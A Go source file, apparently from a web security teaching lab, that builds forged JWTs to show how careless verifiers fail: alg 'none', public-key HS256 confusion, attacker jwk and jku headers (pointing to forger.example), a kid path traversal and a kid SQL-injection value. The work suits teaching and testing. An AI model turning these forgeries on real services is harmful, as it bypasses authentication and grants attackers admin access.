package forgery

import (
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"path"
	"slices"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"twodoors/web/lab/forgery/careless"
	"twodoors/web/trace"
)

// technique is a way of forging a token.
type technique struct {
	kind      string
	label     string       // of its button
	refusedAt []trace.Name // the steps that may refuse it
	forge     func(*original) (token, done string, err error)
}

// The techniques, by what they attack: the content, the key, the context.
func contentTechniques() []technique {
	return []technique{
		{"payload", "Change the role", []trace.Name{trace.SignatureVerify}, changedPayload},
		{"signature-cut", "Cut off the signature", []trace.Name{trace.TokenDecode}, cutSignature},
		{"none", "Set alg to none", []trace.Name{trace.AlgorithmCheck}, algorithmNone("none")},
		{"none-spelled", "Write none as nOnE", []trace.Name{trace.AlgorithmCheck}, algorithmNone("nOnE")},
		{"other-algorithm", "Name another algorithm", []trace.Name{trace.AlgorithmCheck}, otherAlgorithm},
		{"doubled", "Write the role twice", []trace.Name{trace.TokenDecode}, doubled},
	}
}

func keyTechniques() []technique {
	return []technique{
		{"public-key", "Use the public key as an HS256 secret", []trace.Name{trace.AlgorithmCheck, trace.KeySelect}, signedWithPublicKey},
		{"jwk", "Embed your own key (jwk)", []trace.Name{trace.SignatureVerify}, broughtKey},
		{"jku", "Link to your own key (jku)", []trace.Name{trace.KeySelect}, fetchedKey},
		{"kid-path", "Name a file as the key (kid)", []trace.Name{trace.KeySelect}, namedFile},
		{"kid-sql", "Inject SQL (kid)", []trace.Name{trace.KeySelect}, namedRow},
	}
}

func contextTechniques() []technique {
	return []technique{
		{"expired", "Present an expired token", []trace.Name{trace.ClaimsCheck}, expiredToken},
		{"audience", "Change the audience (aud)", []trace.Name{trace.SignatureVerify}, otherAudience},
		{"refresh", "Present a refresh token", []trace.Name{trace.TokenDecode}, refreshAsAccess},
	}
}

func techniques() []technique {
	return slices.Concat(contentTechniques(), keyTechniques(), contextTechniques())
}

func changedPayload(o *original) (string, string, error) {
	return signingInput(o.header, o.promoted()) + "." + o.signature, "The role in the payload is now admin. Header and signature are unchanged.", nil
}

func cutSignature(o *original) (string, string, error) {
	return signingInput(o.header, o.promoted()) + ".", "The role is now admin, and the signature is cut off after its period.", nil
}

func algorithmNone(name string) func(*original) (string, string, error) {
	return func(o *original) (string, string, error) {
		return signingInput(o.headerWith("alg", name), o.promoted()) + "." + o.signature,
			"The header now says alg " + name + " and the payload says role admin. The old signature is still attached.", nil
	}
}

func otherAlgorithm(o *original) (string, string, error) {
	return signingInput(o.headerWith("alg", "ES384"), o.promoted()) + "." + o.signature,
		"The header now says ES384, an algorithm that no key of this site uses, and the payload says role admin.", nil
}

func doubled(o *original) (string, string, error) {
	payload := append(o.payload[:len(o.payload):len(o.payload)], careless.Member{Name: "role", Value: jsontext.Value(`"admin"`)})
	return signingInput(o.header, payload) + "." + o.signature, "A second role, admin, is appended to the payload. The first one is still as it was signed.", nil
}

var errNoPublicKey = unprocessable("This token names no public key of the site. Sign with RS256, ES256 or EdDSA and log in again; the lab starts with ES256.")

func signedWithPublicKey(o *original) (string, string, error) {
	if o.key.Public == nil {
		return "", "", errNoPublicKey
	}
	text := signingInput(o.headerWith("alg", "HS256"), o.promoted())
	return text + "." + encoded(careless.MAC(careless.PEM(o.key.Public), text)),
		"The token is signed with HS256, and the secret is the text of the site's public key, which everyone can fetch.", nil
}

func broughtKey(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	inside, err := json.Marshal(jose.JSONWebKey{Key: key.private.Public(), Algorithm: key.method.Alg(), Use: "sig"})
	if err != nil {
		return "", "", err
	}
	token, err := key.sign(o.headerWith("jwk", jsontext.Value(inside)), o.promoted())
	return token, "The token is signed with the forger's key, and the header contains the public half as jwk.", err
}

// forgersKeys is an address that nobody asks: names under .example lead nowhere (RFC 2606).
const forgersKeys = "https://forger.example/keys.json"

func fetchedKey(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	o.world.Remote[forgersKeys] = key.private.Public()
	token, err := key.sign(o.headerWith("kid", "forger-1", "jku", forgersKeys), o.promoted())
	return token, "The token is signed with the forger's key. The header says, as jku, to fetch it from " + forgersKeys + ".", err
}

func namedFile(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	const kid = "../uploads/holiday.png"
	o.world.Files[path.Join(careless.KeyFolder, kid)] = careless.PEM(key.private.Public())
	token, err := key.sign(o.headerWith("kid", kid), o.promoted())
	return token, "The token is signed with the forger's key, and kid is the path of an uploaded picture that contains that key.", err
}

func namedRow(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	der, err := x509.MarshalPKIXPublicKey(key.private.Public())
	if err != nil {
		return "", "", err
	}
	kid := "x' UNION SELECT '" + base64.StdEncoding.EncodeToString(der) + "' --"
	token, err := key.sign(o.headerWith("kid", kid), o.promoted())
	return token, "The token is signed with the forger's key. Pasted into a query, kid adds a row with that key.", err
}

// expiredToken changes nothing: the signature of an expired token is valid.
func expiredToken(o *original) (string, string, error) {
	left := o.expires().Sub(o.world.Now)
	if left > 0 {
		return "", "", unprocessable(fmt.Sprintf("This token is valid for another %s. Wait until it has expired.", left.Round(time.Second)))
	}
	return o.token, "Nothing is changed. The signature is valid, and the token has expired.", nil
}

func (o *original) expires() time.Time {
	var seconds int64
	for _, m := range o.payload {
		if m.Name == "exp" {
			json.Unmarshal(m.Value, &seconds) // what is no number is long ago
		}
	}
	return time.Unix(seconds, 0)
}

func otherAudience(o *original) (string, string, error) {
	return signingInput(o.header, careless.With(o.payload, "aud", o.world.Issuer+":reports")) + "." + o.signature,
		"The audience now names another service, so the signature no longer matches and the door never gets to aud. A token that the issuer had signed for another service would be refused at claims.check.", nil
}

func refreshAsAccess(o *original) (string, string, error) {
	if strings.Contains(o.token, ".") {
		return "", "", unprocessable("This is an access token. Send the refresh token that a login with \"refresh_in\": \"body\" returns.")
	}
	o.world.Issued = append(o.world.Issued, o.token)
	return o.token, "Nothing is changed. It is a refresh token, presented where an access token belongs.", nil
}
